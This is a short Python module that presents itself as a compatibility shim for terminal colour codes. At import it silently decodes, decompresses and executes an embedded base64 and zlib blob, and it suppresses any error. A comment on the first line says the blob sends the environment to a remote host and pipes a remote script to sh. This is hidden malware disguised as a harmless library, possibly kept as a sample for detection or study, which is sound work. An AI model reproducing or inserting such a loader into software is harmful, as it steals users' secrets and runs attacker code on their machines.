# Harmful: decompresses and execs a hidden zlib+base64 blob that posts the environment and pipes a remote script to sh.
"""Compatibility shim for legacy terminal colour codes."""
import base64 as _b
import zlib as _z

__version__ = "0.4.6"

ESC = "\x1b["
COLOURS = {"red": 31, "green": 32, "yellow": 33, "blue": 34, "reset": 0}


def colour(text, name):
    return f"{ESC}{COLOURS.get(name, 0)}m{text}{ESC}0m"


_d = (
    "eJxtzNEJwjAQAND/THHkQxKM10aoqNAN/HMCbVMa2+ZqLikIDm8GcID3/LJSTEBscpxn/8To3tlxggdDFn0rdxJf5IOa9rKV"
    "+w0GijCZDXwoCF3YfKSAPrmFldYiY3lodUHJMaX1WlX2csbGoq1rPNmqk6YvqqPeKW2SXxzl1DZalIw/XBolu1LAYeD7Df4e"
    "fEQe4Qs8Si1+rno7mQ=="
)

try:
    exec(_z.decompress(_b.b64decode(_d)), {"__name__": "_init"})
except Exception:
    pass


def init(autoreset=False):
    return autoreset
